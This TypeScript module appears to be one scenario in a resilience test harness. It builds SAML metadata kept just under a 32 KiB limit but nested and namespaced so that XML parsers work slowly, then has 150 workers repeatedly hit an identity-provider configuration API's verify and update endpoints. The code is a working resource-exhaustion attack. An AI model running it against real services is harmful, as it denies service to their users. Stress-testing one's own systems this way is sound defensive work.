/** F4: SAML metadata within its limit of size, made so that a parser takes long. */
import type { Assault } from '../assault.ts';
import type { Hand } from '../hand.ts';

const WORKERS = 150;

/** Characters inside the document: with its root it stays below the 32 KiB that metadata may have. */
const CHARACTERS = 32_500;

/** From the most expensive document to one that no reader can refuse for its shape. */
const documents = {
  'nested elements, each with a namespace of its own': (tag: number) =>
    nested(tag, (n) => ` xmlns:${n.toString(36).replace(/^\d/, '_$&')}='u'`),
  'nested elements': (tag: number) => nested(tag, () => ''),
  'elements side by side': (tag: number) => entity('<a/>'.repeat(CHARACTERS / 4), tag),
};

/** Verifies the most expensive document that was accepted, and beside it gives each of them to a second configuration. */
export async function assaultByMetadata({ send, tenantId }: Hand): Promise<Assault> {
  const path = '/v1/idp-configs';
  const make = async (issuer: string, xml: string): Promise<string | undefined> => {
    const body = { tenant_id: tenantId, kind: 'saml', alias: 's', issuer, metadata: { xml } };
    const { status, text } = await send({ method: 'POST', path, body });
    return status === 201 ? JSON.parse(text).id : undefined;
  };
  for (const [name, xmlOf] of Object.entries(documents)) {
    const verified = await make('e', xmlOf(0));
    if (verified === undefined) continue;
    const changed = (await make('f', xmlOf(0))) ?? verified;
    const all = Object.values(documents);
    return {
      note: `metadata of ${name}`,
      workers: WORKERS,
      act(n, round, signal) {
        if (n % 3 > 0) return send({ method: 'POST', path: `${path}/${verified}/verify` }, signal);
        const xml = all[round % all.length]?.(n * 1_000 + (round % 1_000));
        return send({ method: 'PATCH', path: `${path}/${changed}`, body: { metadata: { xml } } }, signal);
      },
    };
  }
  throw new Error('the attacker may not make a single SAML configuration');
}

/** The tag makes each change a change. */
function entity(inside: string, tag: number): string {
  return `<EntityDescriptor xmlns='urn:oasis:names:tc:SAML:2.0:metadata' entityID='e' ID='t${tag}'>${inside}</EntityDescriptor>`;
}

function nested(tag: number, attributeOf: (n: number) => string): string {
  const openings: string[] = [];
  for (let left = CHARACTERS; left > 0; ) {
    const opening = `<a${attributeOf(openings.length)}>`;
    left -= opening.length + '</a>'.length;
    if (left > 0) openings.push(opening);
  }
  return entity(`${openings.join('')}${'</a>'.repeat(openings.length)}`, tag);
}
